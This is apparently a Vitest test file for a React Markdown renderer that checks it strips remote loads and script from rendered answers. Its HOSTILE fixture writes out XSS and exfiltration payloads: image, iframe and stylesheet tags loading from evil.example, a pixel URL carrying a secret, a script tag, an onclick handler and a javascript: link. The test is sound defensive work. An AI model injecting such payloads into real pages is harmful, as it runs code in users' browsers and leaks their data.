// @vitest-environment happy-dom
import { createRoot } from 'react-dom/client';
import { describe, expect, it, onTestFinished } from 'vitest';
import { Markdown } from './markdown.tsx';

const HOSTILE = `
![pixel](https://evil.example/a.png?secret=1) <img src="https://evil.example/b.png">
<picture><source srcset="https://evil.example/c.png"></picture> <video src="https://evil.example/d"></video>
<iframe src="https://evil.example/e"></iframe> <link rel="stylesheet" href="https://evil.example/f">
<script>alert(1)</script> <p style="background:url(https://evil.example/g)" onclick="alert(1)">text</p>
[click](javascript:alert(1))
`;

describe('markdown', () => {
  it('draws tables and code', async () => {
    const element = await draw('| Name |\n|---|\n| kube-system |\n\n`kubectl get ns`');
    expect(element.querySelector('td')?.textContent).toBe('kube-system');
    expect(element.querySelector('code')?.textContent).toBe('kubectl get ns');
  });

  it('closes what is still being written', async () => {
    const element = await draw('All **well', true);
    expect(element.querySelector('[data-streamdown=strong]')?.textContent).toBe('well');
  });

  it('loads nothing from elsewhere and runs nothing, whatever an answer contains', async () => {
    const element = await draw(HOSTILE);
    expect(element.textContent).toContain('text');
    expect(
      element.querySelectorAll('img, video, iframe, link, script, object, embed'),
    ).toHaveLength(0);
    expect(element.querySelectorAll('[style], [onclick], [href^="javascript:"]')).toHaveLength(0);
    expect(element.textContent).toContain('pixel');
  });
});

async function draw(text: string, streaming = false): Promise<HTMLElement> {
  const element = document.body.appendChild(document.createElement('div'));
  const root = createRoot(element);
  onTestFinished(() => {
    root.unmount();
    element.remove();
  });
  root.render(<Markdown text={text} streaming={streaming} />);
  await expect.poll(() => element.textContent, { interval: 5 }).not.toBe('');
  return element;
}
